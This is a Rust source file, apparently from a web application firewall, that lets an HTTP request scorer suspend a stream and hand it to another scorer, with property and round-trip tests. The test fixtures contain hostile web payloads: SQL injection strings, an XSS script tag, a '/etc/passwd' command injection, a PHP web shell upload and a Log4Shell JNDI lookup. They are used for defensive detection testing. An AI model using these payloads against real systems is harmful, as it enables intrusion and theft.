//! A stream on its way to another scorer, perhaps of another process with other rules.

use std::net::IpAddr;

use serde::{Deserialize, Serialize};

use super::{Scorer, State, Stream};
use crate::coding::DecoderStack;
use crate::findings::Found;
use crate::gather::Gather;
use crate::http::{self, BodyKind, ChunkSize};
use crate::inspect::Content;
use crate::policy::Limits;
use crate::request::{HEAD_BYTES, Head, LineExcerpt, Phase, Request};
use crate::verdict::OpaqueKind;

/// Where a request line begins, nothing but a method has so many bytes.
const METHOD_BYTES: usize = 64;

/// All that another scorer has to know to go on with a stream where this one stopped, between any two bytes.
///
/// What it looks like when it is serialised changes with the parser: who exchanges them has to see to it that both sides are of
/// the same [`Continuation::FORMAT`].
#[derive(Debug, Serialize, Deserialize)]
pub struct Continuation {
    leading: u8,
    upgrade_asked: bool,
    source: Option<IpAddr>,
    at: At,
}

#[derive(Debug, Serialize, Deserialize)]
enum At {
    Idle,
    Underway(Box<Suspended>),
    Unsynced,
    Blocked,
    Opaque(OpaqueKind),
}

/// A request in progress.
#[derive(Debug, Serialize, Deserialize)]
struct Suspended {
    phase: Phase,
    head: Head,
    remaining: u64,
    chunk: ChunkSize,
    content: Content,
    body_bytes: u64,
    carry: Vec<u8>,
    scored: usize,
    bytes: u64,
    line: LineExcerpt,
    shown: Vec<u8>,
    found: Found,
    gather: Gather,
    asks_admission: bool,
    decided: bool,
    after_upgrade: bool,
}

impl Continuation {
    /// Changes whenever what is serialised does.
    pub const FORMAT: u32 = 2;

    /// Whether no request is in progress and the next byte begins one.
    #[must_use]
    pub fn is_idle(&self) -> bool {
        matches!(self.at, At::Idle)
    }

    /// The same stream, followed from its next request on.
    #[must_use]
    pub fn unsynced(self) -> Self {
        Self {
            at: At::Unsynced,
            ..self
        }
    }
}

impl Scorer {
    /// Stops following a stream, and says how to go on with it. Its buffers are free again.
    ///
    /// What is lost: of a body under a content coding, everything up to the next request, as decoders do not travel; of other
    /// requests, the fields that the second tier might have been asked about, and what a baseline would have learnt.
    #[must_use]
    pub fn suspend(&mut self, stream: &mut Stream) -> Continuation {
        let Stream {
            leading,
            upgrade_asked,
            source,
            ..
        } = *stream;
        let at = match stream.restart() {
            State::Idle => At::Idle,
            State::Unsynced => At::Unsynced,
            State::Blocked => At::Blocked,
            State::Opaque(kind) => At::Opaque(kind),
            State::Active(request) => {
                let at = if request.decoders.is_active() {
                    At::Unsynced
                } else {
                    At::Underway(Box::new(Suspended::of(&request)))
                };
                self.give_back(request);
                at
            }
        };
        Continuation {
            leading,
            upgrade_asked,
            source,
            at,
        }
    }

    /// Goes on with a stream, whose requests are judged by the policy of number `policy`. Where that is not possible, as all
    /// buffers are taken or limits are narrower than before, it is followed from its next request on.
    #[must_use]
    pub fn resume(&mut self, continuation: Continuation, policy: u16) -> Stream {
        let Continuation {
            leading,
            upgrade_asked,
            source,
            at,
        } = continuation;
        let mut stream = Stream {
            leading,
            upgrade_asked,
            policy,
            source,
            ..Stream::default()
        };
        stream.state = match at {
            At::Idle => State::Idle,
            At::Unsynced => State::Unsynced,
            At::Blocked => State::Blocked,
            At::Opaque(kind) => State::Opaque(kind),
            At::Underway(suspended) => {
                let fits = suspended.fits(&self.policies.policy(policy).limits);
                if fits && self.available() > 0 && self.pool.len() > 1 {
                    let mut request = self.begin(&stream);
                    suspended.restore(&mut request);
                    let ruling = self.policies.ruling(policy);
                    request
                        .findings
                        .restore(suspended.found, self.policies.rules(), ruling);
                    request.generation = self.generation;
                    State::Active(request)
                } else {
                    State::Unsynced
                }
            }
        };
        stream
    }
}

impl Suspended {
    fn of(request: &Request) -> Self {
        Self {
            phase: request.phase,
            head: request.head,
            remaining: request.remaining,
            chunk: request.chunk,
            content: request.content,
            body_bytes: request.body_bytes,
            carry: request.carry.clone(),
            scored: request.scored,
            bytes: request.bytes,
            line: request.line,
            shown: request.shown.clone(),
            found: request.findings.found(),
            gather: request.gather,
            asks_admission: request.asks_admission,
            decided: request.decided,
            after_upgrade: request.after_upgrade,
        }
    }

    fn restore(&self, request: &mut Request) {
        request.phase = self.phase;
        request.head = self.head;
        request.remaining = self.remaining;
        request.chunk = self.chunk;
        request.content = self.content;
        request.decoders = DecoderStack::default();
        request.body_bytes = self.body_bytes;
        request.carry.extend_from_slice(&self.carry);
        request.scored = self.scored;
        request.bytes = self.bytes;
        request.line = self.line;
        request.shown.extend_from_slice(&self.shown);
        request.gather = self.gather;
        request.asks_admission = self.asks_admission;
        request.decided = self.decided;
        request.after_upgrade = self.after_upgrade;
    }

    /// Whether a parser under these limits could have come here.
    fn fits(&self, limits: &Limits) -> bool {
        let in_lines = self.phase.in_head() || self.phase == Phase::Trailers;
        let room = if in_lines {
            limits.head_bytes.saturating_sub(self.head.bytes)
        } else {
            limits.window
        };
        let begins = self.phase != Phase::RequestLine
            || self.gather.is_on()
            || http::method_length(&self.carry[..self.carry.len().min(METHOD_BYTES)]).is_ok();
        let fits_body = limits.body_bytes == 0
            || self.content.kind == BodyKind::Unscored
            || self.body_bytes <= limits.body_bytes;
        begins
            && fits_body
            && self.head.bytes <= limits.head_bytes
            && self.shown.len() <= HEAD_BYTES
            && self.carry.len() <= room as usize
            && self.scored <= self.carry.len()
            && self.content.is_sound(limits)
    }
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use proptest::prelude::*;

    use super::*;
    use crate::policy::{Overflow, Policy};
    use crate::rules::{RuleSet, builtin_packs};
    use crate::verdict::{Disposition, Verdict};

    fn scorer(rules: &Arc<RuleSet>) -> Scorer {
        Scorer::new(Arc::clone(rules), Policy::default(), 8)
    }

    fn rules() -> Arc<RuleSet> {
        Arc::new(RuleSet::compile(builtin_packs()).expect("the rules of the repository"))
    }

    /// Verdict, score and rules of each request, and how the stream was left.
    type Judged = (Vec<(Verdict, u32, Vec<u32>)>, Disposition);

    fn feed(scorer: &mut Scorer, stream: &mut Stream, bytes: &[u8], judged: &mut Judged) {
        let decisions = &mut judged.0;
        judged.1 = scorer.feed(stream, bytes, |decision| {
            let ids = decision.hits.iter().map(|hit| hit.rule.id).collect();
            decisions.push((decision.verdict, decision.anomaly, ids));
        });
    }

    fn over_the_wire(continuation: &Continuation) -> Continuation {
        let bytes = postcard::to_stdvec(continuation).expect("it can be written");
        postcard::from_bytes(&bytes).expect("and read again")
    }

    const STREAMS: &[&[u8]] = &[
        b"GET /a?b=c HTTP/1.1\r\nHost: lab\r\nCookie: a=b; c=d\r\n\r\nGET /?q=1'+UNION+SELECT+a+FROM+b-- HTTP/1.1\r\nHost: lab\r\n\r\n",
        b"POST /f HTTP/1.1\r\nHost: lab\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 52\r\n\r\nname=value&x=%3Cscript%3Ealert(1)%3C/script%3E&z=end",
        b"POST /j HTTP/1.1\r\nHost: lab\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n11\r\n{\"a\": [1, \"b c\",\r\n18;x=y\r\n \"1' OR '1'='1\"], \"d\": 1}\r\n0\r\nX-Trailer: a\r\n\r\nGET / HTTP/1.1\r\nHost: lab\r\n\r\n",
        b"POST /x HTTP/1.1\r\nHost: lab\r\nContent-Type: text/xml\r\nContent-Length: 68\r\n\r\n<?xml version=\"1.0\"?><a b=\"c\"><![CDATA[; cat /etc/passwd]]]]></a>   ",
        b"POST /m HTTP/1.1\r\nHost: lab\r\nContent-Type: multipart/form-data; boundary=xyz\r\nContent-Length: 133\r\n\r\n--xyz\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php system($_GET['c']); ?>\r\n--xy\r\n--xyz--\r\n                    ",
        b"\r\n\r\nPOST /t HTTP/1.1\r\nHost: lab\r\nContent-Type: text/plain\r\nContent-Length: 26\r\n\r\nhello ${jndi:ldap://x.y/z}",
    ];

    #[test]
    fn a_stream_goes_on_elsewhere_between_any_two_bytes() {
        let rules = rules();
        let (mut one, mut other) = (scorer(&rules), scorer(&rules));
        for text in STREAMS {
            let mut whole: Judged = (Vec::new(), Disposition::Accept);
            let mut stream = Stream::new();
            feed(&mut one, &mut stream, text, &mut whole);
            one.release(&mut stream);
            assert!(!whole.0.is_empty(), "{}", text.escape_ascii());
            for cut in 0..=text.len() {
                let mut judged: Judged = (Vec::new(), Disposition::Accept);
                let mut stream = Stream::new();
                feed(&mut one, &mut stream, &text[..cut], &mut judged);
                let continuation = over_the_wire(&one.suspend(&mut stream));
                let mut stream = other.resume(continuation, 0);
                if cut < text.len() {
                    feed(&mut other, &mut stream, &text[cut..], &mut judged);
                }
                other.release(&mut stream);
                assert_eq!(judged, whole, "{} at {cut}", text.escape_ascii());
            }
        }
        assert_eq!((one.available(), other.available()), (8, 8), "no buffer is lost");
    }

    #[test]
    fn a_body_under_a_content_coding_is_followed_from_the_next_request_on() {
        let rules = rules();
        let (mut one, mut other) = (scorer(&rules), scorer(&rules));
        let mut judged: Judged = (Vec::new(), Disposition::Accept);
        let mut stream = Stream::new();
        let head = b"POST /z HTTP/1.1\r\nHost: lab\r\nContent-Encoding: gzip\r\nContent-Length: 100\r\n\r\n\x1f\x8b\x08\0";
        feed(&mut one, &mut stream, head, &mut judged);
        let mut stream = other.resume(over_the_wire(&one.suspend(&mut stream)), 0);
        feed(&mut other, &mut stream, b"more", &mut judged);
        assert_eq!(judged.1, Disposition::Unsynced);
        feed(&mut other, &mut stream, STREAMS[0], &mut judged);
        assert_eq!(judged.0.last().map(|last| last.0), Some(Verdict::Block));
    }

    #[test]
    fn without_a_free_buffer_or_within_narrower_limits_it_waits_for_the_next_request() {
        let rules = rules();
        let mut one = scorer(&rules);
        let suspended = |one: &mut Scorer| {
            let mut stream = Stream::new();
            let _ = one.feed(&mut stream, &STREAMS[1][..110], |_| ());
            one.suspend(&mut stream)
        };
        let mut full = Scorer::new(Arc::clone(&rules), Policy::default(), 1);
        let first = full.resume(suspended(&mut one), 0);
        assert!(matches!(first.state, State::Active(_)));
        let second = full.resume(suspended(&mut one), 0);
        assert!(matches!(second.state, State::Unsynced));

        let mut policy = Policy::default();
        policy.limits.body_bytes = 1;
        let mut narrow = Scorer::new(rules, policy, 8);
        let stream = narrow.resume(suspended(&mut one), 0);
        assert!(matches!(stream.state, State::Unsynced));
    }

    #[test]
    fn a_body_that_is_not_scored_any_more_goes_on_beyond_the_limit() {
        let mut policy = Policy::default();
        policy.limits.body_bytes = 10;
        policy.limits.body_overflow = Overflow::Partial;
        let (rules, mut judged) = (rules(), (Vec::new(), Disposition::Accept));
        let mut one = Scorer::new(Arc::clone(&rules), policy, 8);
        let mut other = Scorer::new(rules, policy, 8);
        let mut stream = Stream::new();
        feed(
            &mut one,
            &mut stream,
            b"POST / HTTP/1.1\r\nHost: lab\r\nContent-Type: text/plain\r\nContent-Length: 30\r\n\r\n",
            &mut judged,
        );
        feed(&mut one, &mut stream, b"a body of twenty-nin", &mut judged);
        let mut stream = other.resume(over_the_wire(&one.suspend(&mut stream)), 0);
        feed(&mut other, &mut stream, b"e bytes, +", &mut judged);
        assert_eq!(judged.1, Disposition::Accept);
        assert!(stream.is_idle());
    }

    #[test]
    fn what_is_written_has_a_number() {
        let rules = rules();
        let mut one = scorer(&rules);
        let mut bytes = Vec::new();
        for text in &STREAMS[1..] {
            let mut stream = Stream::new();
            let _ = one.feed(&mut stream, &text[..text.len() * 3 / 4], |_| ());
            bytes.extend(postcard::to_stdvec(&one.suspend(&mut stream)).expect("it can be written"));
        }
        let sum = bytes.iter().fold(0u64, |sum, byte| {
            sum.wrapping_mul(0x0000_0100_0000_01b3) ^ u64::from(*byte)
        });
        assert_eq!(
            (Continuation::FORMAT, sum),
            (2, 11_226_967_558_560_670_276),
            "what is serialised has changed: give it another FORMAT, and set the sum here"
        );
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(200))]
        /// A side of the same format never sends such; yet it must not bring the engine down.
        #[test]
        fn damaged_continuations_do_no_harm(
            which in 0..STREAMS.len(), cut in 0.0..1.0f64, at in any::<prop::sample::Index>(), value: u8,
        ) {
            thread_local! {
                static RULES: Arc<RuleSet> = rules();
            }
            let rules = RULES.with(Arc::clone);
            let (mut one, mut other) = (scorer(&rules), scorer(&rules));
            let text = STREAMS[which];
            #[expect(clippy::cast_possible_truncation, clippy::cast_sign_loss, clippy::cast_precision_loss, reason = "a part of a length")]
            let cut = (text.len() as f64 * cut) as usize;
            let mut stream = Stream::new();
            let _ = one.feed(&mut stream, &text[..cut], |_| ());
            let mut bytes = postcard::to_stdvec(&one.suspend(&mut stream)).expect("it can be written");
            let at = at.index(bytes.len());
            bytes[at] = value;
            if let Ok(continuation) = postcard::from_bytes::<Continuation>(&bytes) {
                let mut stream = other.resume(continuation, 0);
                let _ = other.feed(&mut stream, &text[cut..], |_| ());
                let _ = other.finish(&mut stream, |_| ());
            }
        }
    }
}
